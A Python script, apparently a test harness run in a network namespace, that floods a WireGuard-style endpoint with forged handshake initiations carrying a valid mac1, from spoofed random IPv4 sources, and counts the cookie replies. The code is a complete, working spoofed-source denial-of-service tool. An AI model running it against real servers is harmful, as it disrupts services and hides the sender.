"""Handshake-initiation flood from many spoofed IPv4 sources (run as root in a namespace).

`spoof_flood.py DST PORT PUBKEY_B64 SECONDS RATE NET_PREFIX` sends bogus initiations with a
valid mac1 for PUBKEY (so the target must treat them as work) from random source addresses
in NET_PREFIX.0.0/16 and random ports, through a raw socket (IP_HDRINCL), at up to RATE per
second, while counting the cookie replies (type 3, 64 bytes) that come back to any of those
addresses (the namespace routes NET_PREFIX/16 locally). Prints one JSON object."""

import base64
import hashlib
import json
import os
import random
import socket
import struct
import sys
import time


def main(dst, port, public_b64, seconds, rate, prefix):
    key = hashlib.blake2s(b"mac1----" + base64.b64decode(public_b64)).digest()
    a, b = (int(x) for x in prefix.split("."))
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    out.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    rx.setblocking(False)
    dst_packed = socket.inet_aton(dst)
    rnd = random.Random(int.from_bytes(os.urandom(8), "little"))
    sources = set()
    sent = replies = errors = 0
    start = time.monotonic()
    while (now := time.monotonic()) < start + seconds:
        burst = min(256, int((now - start) * rate) - sent)
        for _ in range(max(burst, 0)):
            body = struct.pack("<I", 1) + rnd.randbytes(4 + 32 + 48 + 28)
            payload = body + hashlib.blake2s(body, key=key, digest_size=16).digest() + bytes(16)
            src = bytes((a, b, rnd.randrange(256), rnd.randrange(1, 255)))
            sources.add(src)
            udp = struct.pack("!HHHH", rnd.randrange(1024, 65535), port, 8 + len(payload), 0)
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + 8 + len(payload), 0, 0, 64, 17, 0,
                             src, dst_packed)
            try:
                out.sendto(ip + udp + payload, (dst, 0))
            except OSError:
                errors += 1
            sent += 1
        while True:
            try:
                data = rx.recv(2048)
            except BlockingIOError:
                break
            ihl = (data[0] & 0xF) * 4
            replies += len(data) == ihl + 8 + 64 and data[ihl + 8] == 3
        if burst <= 0:
            time.sleep(0.0005)
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "replies": replies, "errors": errors, "seconds": elapsed,
                      "sources": len(sources)}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]), float(sys.argv[5]),
         sys.argv[6])
